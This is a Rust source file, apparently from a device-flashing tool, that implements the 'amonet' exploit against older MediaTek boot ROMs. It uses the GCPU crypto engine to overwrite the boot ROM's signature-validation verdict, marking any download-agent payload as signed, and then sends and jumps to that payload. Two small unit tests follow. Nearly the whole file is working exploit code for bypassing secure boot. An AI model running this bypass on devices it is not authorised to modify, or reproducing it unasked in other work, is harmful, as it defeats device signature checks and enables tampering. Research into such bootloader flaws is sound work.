// SPDX-FileCopyrightText: 2025 The flashcore Authors
// SPDX-License-Identifier: GPL-3.0-or-later

//! Amonet (older MTK BROMs): the GCPU's zero-key AES-CBC decrypt runs
//! with an arbitrary destination, so decrypting a staged pre-image into
//! the BROM's DA-validation verdict buffer marks any payload as signed.

use crate::engine::gcpu::{Gcpu, BLOCK};
use crate::error::{ExploitError, Result};
use crate::exploit::{ExploitBridge, ExploitCtx, PayloadResult};
use crate::proto::preloader::Preloader;

/// The validation verdict lives a fixed distance above the chip scratch
/// area in BROM RAM.
const VERDICT_OFFSET: u32 = 0x200;

/// Verdict block meaning "signature verified".
const VERDICT_PASS: [u8; BLOCK] = [0u8; BLOCK];

#[derive(Default)]
pub struct Amonet {
    prepared: bool,
}

impl Amonet {
    pub fn new() -> Self {
        Self::default()
    }
}

impl ExploitBridge for Amonet {
    fn name(&self) -> &'static str {
        "amonet"
    }

    fn prepare(&mut self, ctx: &mut ExploitCtx<'_>) -> Result<()> {
        let chip = ctx.chip()?;
        let Some(gcpu_base) = chip.gcpu_base else {
            return Err(ExploitError::UnsupportedChip(format!(
                "{} has no GCPU",
                chip.name
            ))
            .into());
        };
        let verdict_addr = chip.scratch_addr + VERDICT_OFFSET;
        let mut brom = Preloader::new(ctx.transport);
        let mut gcpu = Gcpu::new(&mut brom, gcpu_base);
        gcpu.init()?;
        gcpu.write_block(verdict_addr, &VERDICT_PASS, chip.scratch_addr)?;
        let readback = gcpu.read_block(verdict_addr)?;
        if readback != VERDICT_PASS {
            return Err(ExploitError::PayloadRejected.into());
        }
        ctx.events
            .info("amonet: DA validation verdict overwritten via GCPU");
        self.prepared = true;
        Ok(())
    }

    fn run_payload(&mut self, ctx: &mut ExploitCtx<'_>, payload: &[u8]) -> Result<PayloadResult> {
        if !self.prepared {
            return Err(ExploitError::PayloadRejected.into());
        }
        let chip = ctx.chip()?;
        let mut brom = Preloader::new(ctx.transport);
        brom.send_da(chip.da_payload_addr, 0, payload)?;
        brom.jump_da(chip.da_payload_addr)?;
        Ok(PayloadResult {
            bytes: payload.len(),
            jumped: true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chipdb;
    use crate::error::Error;
    use crate::event::Events;
    use crate::transport::testing::ScriptedTransport;

    #[test]
    fn chip_without_gcpu_is_unsupported() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x0766), // kamakiri-era, no GCPU
            events: &Events::default(),
        };
        match Amonet::new().prepare(&mut ctx) {
            Err(Error::Exploit(ExploitError::UnsupportedChip(_))) => {}
            other => panic!("unexpected: {other:?}"),
        }
    }

    #[test]
    fn payload_requires_prepare() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x6580),
            events: &Events::default(),
        };
        assert!(Amonet::new().run_payload(&mut ctx, &[1, 2, 3]).is_err());
    }
}
